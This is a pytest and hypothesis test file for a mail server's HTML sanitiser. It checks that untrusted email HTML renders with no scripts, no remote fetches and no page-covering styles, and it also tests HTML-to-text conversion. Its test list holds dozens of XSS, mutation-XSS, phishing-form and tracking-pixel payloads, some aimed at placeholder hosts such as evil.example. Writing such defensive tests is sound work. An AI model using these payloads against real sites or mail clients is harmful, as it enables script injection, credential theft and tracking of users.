"""A stranger's HTML as it is shown: nothing runs, nothing is fetched, nothing covers the page."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from farhand_server.mail.html_text import html_to_text
from farhand_server.mail.html_tokens import Tag, read_tokens
from farhand_server.mail.rendering import (
    CSP,
    CSP_WITH_PICTURES,
    MAX_RENDERED_CHARS,
    render_html,
)

# What a rendered fragment may hold, and nothing else.
SAFE_TAGS = frozenset(
    """a abbr b bdi big blockquote br caption center cite code col colgroup dd del div dl dt em font
    h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup
    table tbody td tfoot th thead tr tt u ul var""".split()  # noqa: SIM905
)

BATTERY = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="https://track.example/pixel.gif" width=1 height=1>',
    '<img srcset="https://track.example/x 2x">',
    '<img src="//track.example/x">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="/api/v1/accounts">',
    '<img src="cid:unknown@x">',
    '<img src="cid:pic@x" onload="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java&#x09;script:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="/api/v1/tickets/1/resolve">x</a>',
    '<a href="cid:pic@x">x</a>',
    '<a href="https://x.example/" onclick="alert(1)" target="_blank">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form action=https://evil.example><input name=password><button>send</button></form>",
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<video src=https://evil.example/v autoplay onplay=alert(1)></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    '<p style="background:url(https://track.example/x)">x</p>',
    '<p style="background-color:red;background-image:url(//track.example)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="color:\\75 rl(https://track.example)">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    '<p style="content:counter(x);display:none">hidden</p>',
    '<table background="https://track.example/x"><tr><td background=//track.example/y>x</table>',
    '<body background="https://track.example/x" onload=alert(1)>x</body>',
    "<input type=image src=https://track.example/x onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a id=cookie name=getElementById class=admin href=https://x.example>x</a>",
    "<div id=app class='btn' data-x='1' contenteditable>x</div>",
    "<isindex action=javascript:alert(1) prompt=x>",
    "<bgsound src=https://track.example/x>",
    "<layer src=https://evil.example></layer>",
    "<a href='https://x.example/\"onmouseover=alert(1)'>x</a>",
    "<img src=`x`onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<b <script>alert(1)</script>0",
    "<<script>alert(1)//<</script>",
    "<img \x00src=x onerror=alert(1)>",
    "<font color='red\" onmouseover=\"alert(1)'>x</font>",
    "<q cite=https://track.example/x>x</q><blockquote cite=https://track.example/y>x</blockquote>",
    '<math><a href="javascript:alert(1)">x</a></math>',
    "<picture><source srcset=https://track.example/x><img></picture>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
]


def assert_harmless(shown: str) -> None:
    for token in read_tokens(shown):
        if not isinstance(token, Tag):
            continue
        assert token.name in SAFE_TAGS, shown
        for name, value in token.attributes.items():
            assert not name.startswith("on"), shown
            assert name not in ("id", "class", "srcset", "background", "action", "cite"), shown
            if name == "src":
                assert value == "/pictures/1", shown
            if name == "href":
                assert value.strip().lower().startswith(("http://", "https://", "mailto:", "tel:"))
            if name == "style":
                assert "url" not in value, shown
                assert "position" not in value, shown
                assert "expression" not in value, shown
                assert "display" not in value, shown
        if token.name == "a" and not token.ends:
            assert token.attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("markup", BATTERY)
def test_nothing_runs_and_nothing_is_fetched(markup: str) -> None:
    for put in (markup, f"<div>{markup}</div>", f"<table>{markup}", f"<p title='{markup}"):
        assert_harmless(render_html(put, {"pic@x": "/pictures/1"}))


@given(st.lists(st.sampled_from([*BATTERY, "<p>", "</p>", "'", '"', ">", "<"]), max_size=4))
def test_nor_when_they_are_mixed(pieces: list[str]) -> None:
    assert_harmless(render_html("".join(pieces), {"pic@x": "/pictures/1"}))


@given(st.text(alphabet="<>/='\"a bimgsrcstyle:&;!-", max_size=120))
def test_nor_from_any_text(markup: str) -> None:
    assert_harmless(render_html(markup))
    html_to_text(markup)


def test_what_people_write_is_kept() -> None:
    shown = render_html(
        '<p style="color: red">Hello <b>you</b></p><table><tr><td colspan="2">x</td></tr></table>'
        '<ul><li>one</li></ul><a href="https://x.example/?a=1&amp;b=2" title="t">link</a>'
    )
    assert '<p style="color:red">Hello <b>you</b></p>' in shown
    assert '<td colspan="2">x</td>' in shown
    assert 'href="https://x.example/?a=1&amp;b=2"' in shown


def test_pictures_of_the_mail_have_the_addresses_that_they_are_given() -> None:
    shown = render_html('<img src="CID:Pic@X" alt="plan">', {"pic@x": "/pictures/1"})
    assert shown == '<img src="/pictures/1" alt="plan">'
    assert "src" not in render_html('<img src="cid:pic@x">')


def test_the_policy_lets_nothing_run() -> None:
    for policy in (CSP, CSP_WITH_PICTURES):
        rules = dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))
        assert rules["default-src"] == "'none'"
        assert rules["sandbox"] == ""
        assert "script-src" not in rules
        assert "http" not in policy
    assert "img-src 'none'" in CSP


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 50_000,
        "<b>" * 50_000,
        "".join(f"<font color={n}>" for n in range(280)) + "<p>x" * 20_000,
        "<b><p><i></b>" * 20_000,
        "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">",
        "x" * (MAX_RENDERED_CHARS + 1),
    ],
    ids=["depth", "formatting", "reopened", "misnested", "attributes", "size"],
)
def test_what_would_take_long_is_shown_as_text(markup: str) -> None:
    shown = render_html(markup)
    assert shown.startswith("<pre>")
    assert len(shown) < 2 * len(markup)


# HTML to text.


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("one<br>two<br/>three", "one\ntwo\nthree"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("<div>one</div><div><br></div><div>two</div>", "one\n\ntwo"),
        ("a&nbsp;b&amp;c &#8364; &lt;x&gt;", "a b&c € <x>"),
        ("<ul><li>one</li><li>two</ul>", "- one\n- two"),
        (
            "<blockquote>old<blockquote>older</blockquote></blockquote>new",
            "> old\n>\n> > older\n>\nnew",
        ),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("a  \n  b", "a b"),
        ("<a href='https://x.example/a'>here</a>", "here <https://x.example/a>"),
        ("<a href='https://x.example/a'>https://x.example/a</a>", "https://x.example/a"),
        ("<a href='mailto:a@b.c'>a@b.c</a>", "a@b.c"),
        ("<style>p{}</style><script>x</script><title>t</title>x", "x"),
        ("<p style='display: none'>hidden</p>shown", "shown"),
        ("<img alt='logo' src=x>", "[logo]"),
        ("<td>a</td><td>b</td>", "a b"),
        ("a<b", "a"),
        ("a < b > c", "a < b > c"),
        ("<!-- no --><p>yes", "yes"),
        ("", ""),
    ],
)
def test_html_becomes_text(markup: str, text: str) -> None:
    assert html_to_text(markup) == text
